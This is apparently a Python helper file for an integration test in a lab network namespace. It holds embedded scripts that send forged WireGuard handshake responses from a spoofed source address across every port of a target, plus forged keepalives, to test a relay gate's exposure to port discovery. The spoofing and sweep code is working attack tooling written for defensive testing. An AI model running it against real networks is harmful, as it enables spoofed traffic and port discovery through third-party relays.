"""Forged datagrams for the relay gate's port sweep test (tests/integration/test_gate_sweep_lab.py).

A raw socket (IPPROTO_RAW: the script writes the IPv4 header itself, with a forged source
address) in a lab namespace that routes to the target; the kernel fills in the IP checksum and
total length. Needs root, which the lab tests have. Processes are started with lab.spawn.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

from lab.netlab import Lab
from lab.wg_lab import PY

# The sweep: forged WireGuard handshake responses (92 bytes, type 2) "from" src to every port
# of dst_ip in [first, last], at `rate` per second. Each response's sender index is the port it
# is sent to, so whoever receives it through the relay learns which port hit; its receiver
# index is the attacker's initiation index. Stops early when `stop_file` exists (checked every
# 256 datagrams). Prints {"sent", "bytes_udp", "bytes_ip", "seconds", "stopped"}.
_SWEEP = textwrap.dedent(r'''
    import json, os, socket, struct, sys, time
    src, dst_ip, first, last, receiver, rate, stop_file = (sys.argv[1], sys.argv[2], int(sys.argv[3]),
        int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]), sys.argv[7])
    src_ip, src_port = src.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    saddr, daddr = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    def datagram(port):
        body = b"\x02\x00\x00\x00" + struct.pack("<II", port, receiver) + b"\x5c" * 80
        udp = struct.pack("!HHHH", int(src_port), port, 8 + len(body), 0) + body
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, 17, 0, saddr, daddr)
        return ip + udp
    sent = 0
    stopped = False
    t0 = time.monotonic()
    for port in range(first, last + 1):
        if sent % 256 == 0:
            if os.path.exists(stop_file):
                stopped = True
                break
            ahead = t0 + sent / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        while True:
            try:
                s.sendto(datagram(port), (dst_ip, 0))
                break
            except (BlockingIOError, OSError):
                time.sleep(0.001)
        sent += 1
    print(json.dumps({"sent": sent, "bytes_udp": sent * 92, "bytes_ip": sent * (92 + 28),
                      "seconds": time.monotonic() - t0, "stopped": stopped}))
''')

# Forged WireGuard keepalives (32-byte transport messages, type 4) "from" src to dst, one every
# `interval` seconds for `seconds`. Prints the count.
_KEEPALIVES = textwrap.dedent(r'''
    import socket, struct, sys, time
    src, dst, receiver, interval, seconds = (sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]),
        float(sys.argv[5]))
    src_ip, src_port = src.rsplit(":", 1)
    dst_ip, dst_port = dst.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    saddr, daddr = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    n, counter, t0 = 0, 0, time.monotonic()
    while time.monotonic() < t0 + seconds:
        body = b"\x04\x00\x00\x00" + struct.pack("<IQ", receiver, counter) + b"\x00" * 16
        udp = struct.pack("!HHHH", int(src_port), int(dst_port), 8 + len(body), 0) + body
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0x4000, 64, 17, 0, saddr, daddr)
        s.sendto(ip + udp, (dst_ip, 0))
        n += 1
        counter += 1
        time.sleep(interval)
    print(n)
''')


def sweep_responses(lab: Lab, ns: str, src: str, dst_ip: str, receiver: int, rate: float, stop_file: Path,
                    first: int = 1, last: int = 65535):
    """Start the sweep in ``ns`` (a background process); read its result with :func:`sweep_result`."""
    out = Path(str(stop_file) + ".sweep.json")
    out.unlink(missing_ok=True)
    proc = lab.spawn(ns, [PY, "-c", _SWEEP, src, dst_ip, first, last, receiver, rate, stop_file],
                     label="forged-response sweep", stdout_path=out)
    return proc, out


def sweep_result(path: Path) -> dict:
    return json.loads(path.read_text().strip().splitlines()[-1])


def forged_keepalives(lab: Lab, ns: str, src: str, dst: str, receiver: int, interval: float, seconds: float,
                      out: Path):
    """Start forged keepalives in ``ns`` (a background process); ``out`` gets the count."""
    return lab.spawn(ns, [PY, "-c", _KEEPALIVES, src, dst, receiver, interval, seconds],
                     label="forged keepalives", stdout_path=out)
